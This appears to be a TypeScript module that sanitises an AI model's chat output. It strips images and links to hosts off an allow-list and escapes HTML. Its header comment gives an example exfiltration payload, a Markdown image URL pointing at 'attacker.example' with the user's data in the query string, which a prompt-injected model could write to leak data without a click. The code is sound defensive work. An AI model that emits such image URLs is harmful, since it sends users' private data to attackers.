/**
 * Output handling. A Markdown image renders — and its URL is fetched — the moment a chat UI shows the
 * answer, so `![](https://attacker.example/?q=<the user's data>)` written by an injected model exfiltrates
 * without a click. Images and links are kept only for hosts on an allow-list; everything else loses its URL
 * and keeps its text. HTML is escaped by `escapeHtml` wherever model text goes into a page.
 */

export interface StrippedUrl {
  kind: 'image' | 'link' | 'html-image' | 'reference';
  url: string;
  host: string;
}

export interface StripUrlsOptions {
  text: string;
  /**
   * Hosts whose images and links are kept: exact names, or `*.example.com` for its subdomains. Default none
   * (every image and link to any host is stripped; relative links and `#anchors` are kept).
   */
  allowHosts?: readonly string[];
}

function hostOf(url: string): string | null {
  const trimmed = url.trim().replace(/^<|>$/g, '');
  // Relative URLs and anchors point at the page the answer is shown on.
  if (/^(?:#|\/(?!\/)|\.\.?\/)/.test(trimmed)) return null;
  if (/^(?:mailto|tel):/i.test(trimmed)) return null;
  try {
    const parsed = new URL(trimmed.startsWith('//') ? `https:${trimmed}` : trimmed);
    if (parsed.protocol === 'data:' || parsed.protocol === 'javascript:' || parsed.protocol === 'vbscript:') return parsed.protocol;
    return parsed.hostname.toLowerCase();
  } catch {
    // A URL that does not parse is treated as foreign: the renderer might still follow it.
    return trimmed.slice(0, 60) || '?';
  }
}

export function isAllowedHost(options: { host: string; allowHosts?: readonly string[] }): boolean {
  const host = options.host.toLowerCase();
  return (options.allowHosts ?? []).some((rule) => {
    const r = rule.toLowerCase();
    return r.startsWith('*.') ? host.endsWith(r.slice(1)) : host === r;
  });
}

/** Removes images and links to hosts not on the allow-list; returns the text and what was removed. */
export function stripUntrustedUrls(options: StripUrlsOptions): { text: string; removed: StrippedUrl[] } {
  const removed: StrippedUrl[] = [];
  const foreign = (url: string): string | null => {
    const host = hostOf(url);
    if (host === null) return null;
    if (host.endsWith(':')) return host; // data:, javascript:
    return isAllowedHost({ host, allowHosts: options.allowHosts }) ? null : host;
  };
  let text = options.text;
  // ![alt](url "title"), one level of parentheses inside the URL as renderers allow; bounded, so linear.
  text = text.replace(/!\[([^\]\n]{0,500})\]\(\s*(<[^>\n]{0,2000}>|(?:[^()\s]|\([^()\s]{0,200}\)){0,2000})(?:\s+"[^"\n]{0,200}")?\s*\)/g, (whole, alt: string, url: string) => {
    const host = foreign(url);
    if (host === null) return whole;
    removed.push({ kind: 'image', url, host });
    return alt ? `[image: ${alt}]` : '[image removed]';
  });
  // [text](url)
  text = text.replace(/(?<!!)\[([^\]\n]{0,500})\]\(\s*(<[^>\n]{0,2000}>|(?:[^()\s]|\([^()\s]{0,200}\)){0,2000})(?:\s+"[^"\n]{0,200}")?\s*\)/g, (whole, label: string, url: string) => {
    const host = foreign(url);
    if (host === null) return whole;
    removed.push({ kind: 'link', url, host });
    return label;
  });
  // [label]: url  (reference definitions, used by ![x][label])
  text = text.replace(/^[ \t]{0,3}\[([^\]\n]{1,200})\]:[ \t]*(<[^>\n]{0,2000}>|\S{1,2000})[^\n]*$/gm, (whole, _label: string, url: string) => {
    const host = foreign(url);
    if (host === null) return whole;
    removed.push({ kind: 'reference', url, host });
    return '';
  });
  // <img src=…>, which Markdown renderers pass through.
  text = text.replace(/<img\b[^>]{0,2000}>/gi, (tag) => {
    const src = /\bsrc\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/i.exec(tag);
    const url = src?.[1] ?? src?.[2] ?? src?.[3] ?? '';
    const host = foreign(url);
    if (host === null) return tag;
    removed.push({ kind: 'html-image', url, host });
    return '[image removed]';
  });
  return { text, removed };
}

const HTML_ESCAPES: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' };

/** Escapes text for HTML element content and quoted attribute values. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => HTML_ESCAPES[c]!);
}
